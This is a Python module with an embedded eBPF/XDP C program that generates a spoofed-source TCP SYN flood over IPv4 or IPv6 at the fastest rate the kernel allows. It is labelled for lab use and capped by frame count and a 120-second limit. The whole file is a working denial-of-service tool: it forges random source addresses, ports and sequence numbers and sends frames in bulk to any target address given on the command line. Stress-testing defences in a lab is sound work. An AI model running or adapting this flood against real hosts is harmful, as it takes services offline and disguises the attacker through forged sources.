"""A spoofed-source SYN flood at the fastest rate this machine can make, for labs only.

The generator is an XDP program run through BPF_PROG_TEST_RUN in live-frames mode: the
kernel hands it a fresh copy of one SYN frame per run, the program gives the copy a random
source address (inside --src-net), source port and sequence number, fixes the checksums,
and returns XDP_TX, which transmits it out of --iface. IPv4 or IPv6, after --dst (an IPv6
--src-net is /64 or longer: the low 64 bits are drawn at random). No socket, no skb, no userspace copy
per packet: one syscall sends a chunk of frames. Bounded by --count and --seconds, checked
between chunks; SIGTERM or SIGINT stops it after the current chunk.

    ip netns exec lab-attacker python -m fastpath.xdp.flood --iface eth0 \
        --dst-mac 02:..:02 --dst 10.66.0.2 --dport 8080 --src-net 10.99.0.0/16 \
        --count 20000000 --seconds 10
    ... --dst fd66::2 --src-net fd99::/64

Prints `ready` once loaded and `sent N seconds S` at the end.
"""

from __future__ import annotations

import argparse
import ipaddress
import signal
import socket
import struct
import sys
import tempfile
import time
from collections.abc import Sequence
from pathlib import Path

from fastpath.bpf import loader, syscall
from fastpath.errors import FastpathError

PROGRAM = r"""
#include <uapi/linux/bpf.h>

/* Frame layout is fixed (built by fastpath/xdp/flood.py): Ethernet, IPv4 without options
 * or IPv6 without extension headers (FLOOD_V6), TCP with one MSS option. */
#define ETH_LEN 14
#define TCP_LEN 24
#ifdef FLOOD_V6
#define IP_LEN 40
#else
#define IP_LEN 20
#endif

static __always_inline u16 fold(s64 partial)
{
	u32 sum = (u32)partial;

	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return (u16)~sum;
}

int syn_flood(struct xdp_md *ctx)
{
	void *data = (void *)(long)ctx->data;
	void *data_end = (void *)(long)ctx->data_end;
	u8 *ip = data + ETH_LEN;
	u8 *th = ip + IP_LEN;
	u32 r = bpf_get_prandom_u32(), pseudo[3];
	s64 sum;

	if ((void *)(th + TCP_LEN) > data_end)
		return XDP_ABORTED;
#ifdef FLOOD_V6
	/* saddr: the low 64 bits at random under the mask; no IP checksum in IPv6 */
	*(u32 *)(ip + 16) = bpf_htonl(SRC_BASE2 | (r & SRC_MASK2));
	*(u32 *)(ip + 20) = bpf_htonl(SRC_BASE3 | (bpf_get_prandom_u32() & SRC_MASK3));
	r = bpf_get_prandom_u32();
	*(u16 *)(th + 0) = bpf_htons(1024 + (r & 0x7fff));          /* source port */
	*(u32 *)(th + 4) = bpf_get_prandom_u32();                   /* seq */
	*(u16 *)(th + 16) = 0;
	pseudo[0] = 0;
	pseudo[1] = bpf_htonl(TCP_LEN);
	pseudo[2] = bpf_htonl(6);
	sum = bpf_csum_diff(0, 0, (void *)(ip + 8), 32, 0);        /* saddr, daddr */
	sum = bpf_csum_diff(0, 0, (void *)pseudo, 12, sum);
	*(u16 *)(th + 16) = fold(bpf_csum_diff(0, 0, (void *)th, TCP_LEN, sum));
	return XDP_TX;
#else
	*(u32 *)(ip + 12) = bpf_htonl(SRC_BASE + (r & SRC_MASK));  /* saddr */
	*(u16 *)(ip + 4) = (u16)(r >> 16);                          /* id */
	*(u16 *)(ip + 10) = 0;
	*(u16 *)(ip + 10) = fold(bpf_csum_diff(0, 0, (void *)ip, IP_LEN, 0));
	r = bpf_get_prandom_u32();
	*(u16 *)(th + 0) = bpf_htons(1024 + (r & 0x7fff));          /* source port */
	*(u32 *)(th + 4) = bpf_get_prandom_u32();                   /* seq */
	*(u16 *)(th + 16) = 0;
	pseudo[0] = *(u32 *)(ip + 12);
	pseudo[1] = *(u32 *)(ip + 16);
	pseudo[2] = bpf_htonl(6 << 16 | TCP_LEN);
	sum = bpf_csum_diff(0, 0, (void *)pseudo, 12, 0);
	*(u16 *)(th + 16) = fold(bpf_csum_diff(0, 0, (void *)th, TCP_LEN, sum));
	return XDP_TX;
#endif
}
"""


def _csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn_frame(src_mac: bytes, dst_mac: bytes, src: str, dst: str, dport: int) -> bytes:
    """An Ethernet/IPv4/TCP or Ethernet/IPv6/TCP SYN with MSS 1460 (the program rewrites the
    source and the checksums)."""
    tcp = struct.pack("!HHIIBBHHH", 40000, dport, 1, 0, 6 << 4, 0x02, 64240, 0, 0) + struct.pack(
        "!BBH", 2, 4, 1460)
    if ipaddress.ip_address(dst).version == 6:
        ip6 = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, 64,
                          ipaddress.IPv6Address(src).packed, ipaddress.IPv6Address(dst).packed)
        return dst_mac + src_mac + b"\x86\xdd" + ip6 + tcp
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", _csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def _mac(text: str) -> bytes:
    try:
        raw = bytes.fromhex(text.replace(":", ""))
    except ValueError:
        raw = b""
    if len(raw) != 6:
        raise FastpathError(f"bad MAC address {text!r}", fix="write it as 02:00:00:00:00:01")
    return raw


def _iface_mac(ifname: str) -> bytes:
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        info = fcntl.ioctl(s.fileno(), 0x8927, struct.pack("256s", ifname.encode()[:15]))  # SIOCGIFHWADDR
    return info[18:24]


class Flood:
    """The loaded generator; run() may be called repeatedly."""

    def __init__(self, iface: str, dst_mac: str, dst: str, dport: int, src_net: str) -> None:
        net = ipaddress.ip_network(src_net, strict=True)
        version = ipaddress.ip_address(dst).version
        if net.version != version:
            raise FastpathError(f"--src-net {src_net} and --dst {dst} are not of one IP version")
        if net.prefixlen < (8 if version == 4 else 64):
            raise FastpathError(f"--src-net {src_net} must be /8 or longer (IPv4), /64 or longer (IPv6)")
        try:
            self.ifindex = socket.if_nametoindex(iface)
        except OSError:
            raise FastpathError(f"unknown interface {iface!r}") from None
        self.frame = syn_frame(_iface_mac(iface), _mac(dst_mac), str(net.network_address), dst, dport)
        self._dir = tempfile.TemporaryDirectory(prefix="fastpath-flood-")
        Path(self._dir.name, "syn_flood.c").write_text(PROGRAM)
        spec = loader.ProgramSpec(name="syn_flood", entry="syn_flood", maps=(),
                                  directory=Path(self._dir.name))
        if version == 4:
            defines = {"SRC_BASE": f"{int(net.network_address):#x}U", "SRC_MASK": f"{int(net.hostmask):#x}U"}
        else:
            base, mask = int(net.network_address), int(net.hostmask)
            word = 0xFFFFFFFF
            defines = {"FLOOD_V6": 1,
                       "SRC_BASE2": f"{base >> 32 & word:#x}U", "SRC_MASK2": f"{mask >> 32 & word:#x}U",
                       "SRC_BASE3": f"{base & word:#x}U", "SRC_MASK3": f"{mask & word:#x}U"}
        self.prog = loader.load(spec, defines)

    def run(self, frames: int) -> int:
        """Send `frames` frames; returns the kernel's mean ns per frame."""
        return syscall.prog_test_run_live(self.prog.prog_fd, self.frame, frames, self.ifindex)

    def close(self) -> None:
        self.prog.close()
        self._dir.cleanup()


def main(argv: Sequence[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m fastpath.xdp.flood", description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--iface", required=True, help="interface to send from (in this namespace)")
    p.add_argument("--dst-mac", required=True, help="next hop's MAC address")
    p.add_argument("--dst", required=True, help="target IPv4 or IPv6 address")
    p.add_argument("--dport", type=int, required=True, help="target TCP port")
    p.add_argument("--src-net", default="10.99.0.0/16", help="spoofed sources are drawn from here")
    p.add_argument("--count", type=int, default=10_000_000, help="stop after this many frames")
    p.add_argument("--seconds", type=float, default=10.0, help="stop after this long (max 120)")
    p.add_argument("--chunk", type=int, default=100_000, help="frames per syscall")
    args = p.parse_args(argv)
    # SIGTERM would interrupt a chunk half-way with EINTR, and the kernel does not say how
    # many frames went out; block it and look for it between chunks instead.
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT})
    try:
        flood = Flood(args.iface, args.dst_mac, args.dst, args.dport, args.src_net)
    except FastpathError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 1
    print("ready", flush=True)
    sent = 0
    t0 = time.monotonic()
    deadline = t0 + min(args.seconds, 120.0)
    try:
        while sent < args.count and time.monotonic() < deadline:
            if signal.sigpending() & {signal.SIGTERM, signal.SIGINT}:
                break
            n = min(args.chunk, args.count - sent)
            flood.run(n)
            sent += n
    finally:
        flood.close()
    print(f"sent {sent} seconds {time.monotonic() - t0:.3f}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
